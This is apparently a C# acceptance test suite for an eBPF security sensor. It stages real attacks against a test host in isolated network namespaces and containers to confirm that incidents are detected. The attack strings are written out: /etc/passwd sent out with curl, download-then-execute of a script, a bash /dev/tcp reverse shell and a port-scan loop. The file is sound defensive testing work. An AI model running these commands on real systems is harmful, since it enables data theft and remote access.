using System.Text.Json;
using Platform.Contracts;
using Platform.Tests.Infrastructure;

namespace Platform.Tests.Sensor;

/// <summary>
/// Issue 20's acceptance, what detection makes of the sensor's flight data: real attacks on this machine, against a test
/// host (203.0.113.9) in network namespaces the test made, with no FIM rule, raise their incidents through the real
/// agent on eBPF and the real api.
/// </summary>
public abstract class AcceptanceDetectionTests(PlatformApi api) : IDisposable
{
    private readonly PlatformApi _api = Agent.AgentTestSupport.WithMachineClock(api);
    private readonly List<IDisposable> _owned = [];
    private readonly string _bin = Directory.CreateTempSubdirectory("sensor-accept-").FullName;

    public void Dispose()
    {
        foreach (var owned in Enumerable.Reverse(_owned))
            owned.Dispose();
        Directory.Delete(_bin, recursive: true);
    }

    private T Own<T>(T owned)
        where T : IDisposable
    {
        _owned.Add(owned);
        return owned;
    }

    private async Task<SensorAgent> StartAgent(string name)
    {
        var agent = Own(await SensorAgent.StartAsync(_api, name));
        Assert.False(agent.Process.HasExited, agent.Log);
        await agent.WaitUntilSensingAsync();
        return agent;
    }

    /// <summary>
    /// A long-running parent named <c>java</c> (<c>exec -a java</c> of a bash linked as <c>java</c>, so its name in the kernel is
    /// java too) that runs <paramref name="chain"/> with <c>sh -c</c>, then waits on its standard input (open until the end).
    /// </summary>
    private string[] Java(string chain)
    {
        var java = Path.Combine(_bin, "java");
        if (!File.Exists(java))
            File.CreateSymbolicLink(java, "/usr/bin/bash");
        return ["bash", "-c", "exec -a java \"$0\" -c 'sh -c \"$0\"; read -r _' \"$1\"", java, chain];
    }

    private static string Exfiltration(string marker) =>
        $"cp /etc/passwd /tmp/p{marker}; curl -s --data-binary @/tmp/p{marker} http://{TestNetwork.HostAddress}/";

    private sealed record Hit(Incident Incident, IncidentFinding Finding);

    /// <summary>The first of the agent's findings of a category that <paramref name="match"/> takes, with its incident (null: none yet).</summary>
    private static async Task<Hit?> FindingOf(SensorAgent agent, IncidentCategory category, Func<IncidentFinding, bool> match)
    {
        foreach (var incident in await agent.Incidents(category))
        {
            if ((await agent.Findings(incident.Id)).FirstOrDefault(match) is { } finding)
                return new Hit(incident, finding);
        }

        return null;
    }

    private static bool Mentions(IncidentFinding finding, string text) => JsonSerializer.Serialize(finding).Contains(text, StringComparison.Ordinal);

    /// <summary>
    /// The finding of the exfiltration run under <paramref name="javaPid"/>: its read by cp and its send by curl, both
    /// children of the sh that java started (java -> sh -> {cp, curl}). Other findings may link this run's processes with
    /// others' through a shared ancestor (the test process starts every run); those are not this one.
    /// </summary>
    private async Task<Hit> ExfiltrationOf(SensorAgent agent, string marker, int javaPid)
    {
        bool Ours(IncidentFinding f)
        {
            if (f.Rule != DetectionRule.SensitiveReadThenEgress || f.Lineage.FirstOrDefault(p => p.Pid == javaPid) is not { Name: "java" })
                return false;
            if (f.Lineage.Where(p => p.Ppid == javaPid).ToList() is not [{ Name: "sh" } sh])
                return false;
            var children = f.Lineage.Where(p => p.Ppid == sh.Pid).ToDictionary(p => p.Pid, p => p.Name);
            return children.Values.Order().SequenceEqual(["cp", "curl"])
                && f.Events.OfType<FileAccessEvent>().Any(e => (e.Path, e.Operation) == ("/etc/passwd", FimOperation.Read) && e.Pid is { } reader && children.GetValueOrDefault(reader) == "cp")
                && f.Events.OfType<NetworkConnectEvent>().Any(e => (e.RemoteAddress, e.RemotePort) == (TestNetwork.HostAddress, 80) && e.Pid is { } sender && children.GetValueOrDefault(sender) == "curl")
                && Mentions(f, $"/tmp/p{marker}");
        }

        try
        {
            return await Sensing.Found(() => FindingOf(agent, IncidentCategory.DataExfiltration, Ours), $"the exfiltration of run {marker}", _api);
        }
        catch (TimeoutException)
        {
            var seen = new List<string>();
            foreach (var incident in await agent.Incidents(IncidentCategory.DataExfiltration))
            {
                seen.AddRange((await agent.Findings(incident.Id)).Where(f => f.Lineage.Any(p => p.Pid == javaPid) || Mentions(f, marker))
                    .Select(f => $"{f.Summary}: {JsonSerializer.Serialize(f.Lineage)}"));
            }

            Assert.Fail($"No finding of run {marker} with java {javaPid} -> sh -> {{cp, curl}}; its findings: {(seen.Count == 0 ? "none" : string.Join("\n", seen))}");
            throw;
        }
    }

    private static async Task ExitsAsync(System.Diagnostics.Process process)
    {
        process.StandardInput.Close();
        using var timeout = new CancellationTokenSource(TimeSpan.FromMinutes(2));
        await process.WaitForExitAsync(timeout.Token);
    }

    [SkippableFact]
    public async Task Five_exfiltrations_from_a_java_parent_in_a_network_namespace_make_five_of_five_findings_with_no_FIM_rule()
    {
        var network = Own(TestNetwork.Create());
        var client = network.AddClient();
        var agent = await StartAgent("exfil");
        var passwd = File.ReadAllBytes("/etc/passwd");

        var runs = new List<(string Marker, System.Diagnostics.Process Java)>();
        for (var run = 0; run < 5; run++)
        {
            var marker = $"{run}x{Guid.NewGuid().ToString("N")[..8]}";
            Own(new Removal($"/tmp/p{marker}"));
            runs.Add((marker, agent.Workload(TestNetwork.Enter(client, Java(Exfiltration(marker))))));
        }

        // The test host got the file five times: the attack really happened.
        await Sensing.Until(() => Task.FromResult(network.Requests.Count(r => r.Method == "POST" && r.Body.SequenceEqual(passwd)) >= 5), "five POSTs of /etc/passwd", _api);

        foreach (var (marker, java) in runs)
        {
            var (incident, finding) = await ExfiltrationOf(agent, marker, java.Id);
            Assert.Null(incident.Resource.ContainerId);
            Assert.Contains(finding.Events.OfType<FileAccessEvent>(), e => (e.Path, e.ProcessName) == ("/etc/passwd", "cp"));
            Assert.Contains(finding.Events.OfType<NetworkConnectEvent>(), e => (e.RemoteAddress, e.ProcessName) == (TestNetwork.HostAddress, "curl"));
        }
    }

    [SkippableFact]
    public async Task The_exfiltration_inside_a_container_is_captured_and_its_incident_is_the_containers()
    {
        var network = Own(TestNetwork.Create());
        var container = Own(TestContainer.Create(network));
        var agent = await StartAgent("container");
        var passwd = File.ReadAllBytes("/etc/passwd");
        var marker = "c" + Guid.NewGuid().ToString("N")[..8];
        Own(new Removal($"/tmp/p{marker}"));

        var java = agent.Workload(container.Run(Java(Exfiltration(marker))));
        await Sensing.Until(() => Task.FromResult(network.Requests.Any(r => r.Method == "POST" && r.Body.SequenceEqual(passwd))), "the POST of /etc/passwd", _api);

        var (incident, finding) = await ExfiltrationOf(agent, marker, java.Id);
        Assert.Equal(container.Id, incident.Resource.ContainerId);
        Assert.All(finding.Events, e => Assert.Equal(container.Id, e.Container?.Id));
    }

    [SkippableFact]
    public async Task Download_then_execute_by_interpreter_and_by_shebang_a_reverse_shell_and_a_port_scan_are_detected()
    {
        var network = Own(TestNetwork.Create());
        var client = network.AddClient();
        var agent = await StartAgent("attacks");
        var marker = Guid.NewGuid().ToString("N")[..8];
        var (byInterpreter, byShebang) = ($"/tmp/x{marker}", $"/tmp/y{marker}");
        Own(new Removal(byInterpreter, byShebang));

        // Downloaded, then run by sh; downloaded, made executable, run through its #! line.
        var ran = await agent.RunAsync(TestNetwork.Enter(client, "sh", "-c", $"curl -s -o {byInterpreter} http://{TestNetwork.HostAddress}/x.sh; sh {byInterpreter}"));
        Assert.Contains(network.ScriptMarker, ran);
        ran = await agent.RunAsync(TestNetwork.Enter(client, "sh", "-c", $"curl -s -o {byShebang} http://{TestNetwork.HostAddress}/x.sh; chmod +x {byShebang}; {byShebang}"));
        Assert.Contains(network.ScriptMarker, ran);

        // The reverse shell: the test host tells it to exit, and it does.
        var shell = agent.Workload(TestNetwork.Enter(client, "bash", "-c", $"bash -i >& /dev/tcp/{TestNetwork.HostAddress}/{TestNetwork.ShellPort} 0>&1"));
        await ExitsAsync(shell);
        await Sensing.Until(() => Task.FromResult(!network.Shells.IsEmpty), "the test host to see the shell go", _api);

        // 30 closed ports of the test host, every attempt from the one bash.
        var scan = agent.Workload(TestNetwork.Enter(client, "bash", "-c",
            $"for p in $(seq {TestNetwork.ClosedPort(1)} {TestNetwork.ClosedPort(30)}); do {{ : <>/dev/tcp/{TestNetwork.HostAddress}/$p; }} 2>/dev/null; done; exit 0"));
        await ExitsAsync(scan);

        var interpreted = await Sensing.Found(
            () => FindingOf(agent, IncidentCategory.DownloadExecute, f => f.Events.OfType<ProcessStartEvent>().Any(e => e.Args is ["sh", var script] && script == byInterpreter)),
            $"download-execute of {byInterpreter} run by sh", _api);
        Assert.Equal(DetectionRule.DownloadThenExecute, interpreted.Finding.Rule);

        var shebang = await Sensing.Found(
            () => FindingOf(agent, IncidentCategory.DownloadExecute, f => f.Events.OfType<ProcessStartEvent>().Any(e => e.Executable == byShebang)),
            $"download-execute of {byShebang} run through its shebang", _api);
        Assert.Equal(DetectionRule.DownloadThenExecute, shebang.Finding.Rule);

        // The shell's socket: the connection it made, or the socket it holds as its input and output.
        var reverse = await Sensing.Found(
            () => FindingOf(agent, IncidentCategory.ReverseShell, f => f.Lineage.Any(p => p.Pid == shell.Id || p.Ppid == shell.Id) && f.Events.Any(e =>
                e is NetworkConnectEvent { RemoteAddress: TestNetwork.HostAddress, RemotePort: TestNetwork.ShellPort }
                || e is ProcessStartEvent { Stdio: { RemoteAddress: TestNetwork.HostAddress, RemotePort: TestNetwork.ShellPort } })),
            "the reverse shell's finding from its socket", _api);
        Assert.Equal(DetectionRule.ReverseShell, reverse.Finding.Rule);
        var interactive = Assert.Single(await agent.Events<ProcessStartEvent>(TelemetryEventKind.Process_start, DateTimeOffset.UtcNow.AddMinutes(-10)),
            e => e.Args is ["bash", "-i"] && (e.Pid == shell.Id || e.Ppid == shell.Id));
        Assert.Equal((StdioKind.Socket, StdioKind.Socket, TestNetwork.HostAddress, TestNetwork.ShellPort),
            (interactive.Stdio?.Stdin, interactive.Stdio?.Stdout, interactive.Stdio?.RemoteAddress, interactive.Stdio?.RemotePort));

        var scanned = await Sensing.Found(
            () => FindingOf(agent, IncidentCategory.PortScan, f => f.Lineage.Any(p => p.Pid == scan.Id) || f.Events.Any(e => e is NetworkConnectEvent c && c.Pid == scan.Id)),
            "the port scan's finding", _api);
        Assert.Equal(DetectionRule.PortScan, scanned.Finding.Rule);
        // The finding comes once enough refused connects are stored; the rest of the 30 may still be on their way.
        List<NetworkConnectEvent> refused = [];
        await Sensing.Until(async () =>
        {
            refused = (await agent.Events<NetworkConnectEvent>(TelemetryEventKind.Network_connect, DateTimeOffset.UtcNow.AddMinutes(-10)))
                .Where(e => e.Pid == scan.Id && e.RemoteAddress == TestNetwork.HostAddress).ToList();
            return refused.Select(e => e.RemotePort).Distinct().Count() >= 30;
        }, "the scan's 30 refused connects in the store", _api);
        Assert.Equal(30, refused.Select(e => e.RemotePort).Distinct().Count());
        Assert.All(refused, e => Assert.Equal(ConnectResult.Refused, e.Result));
    }

    /// <summary>Files a test wrote outside its own directory, removed at the end.</summary>
    private sealed class Removal(params string[] paths) : IDisposable
    {
        public void Dispose()
        {
            foreach (var path in paths)
                File.Delete(path);
        }
    }
}

public sealed class AcceptanceDetectionTestsOnSqlite(SensorApiOnSqlite api) : AcceptanceDetectionTests(api), IClassFixture<SensorApiOnSqlite>;

public sealed class AcceptanceDetectionTestsOnPostgres(SensorApiOnPostgres api) : AcceptanceDetectionTests(api), IClassFixture<SensorApiOnPostgres>;
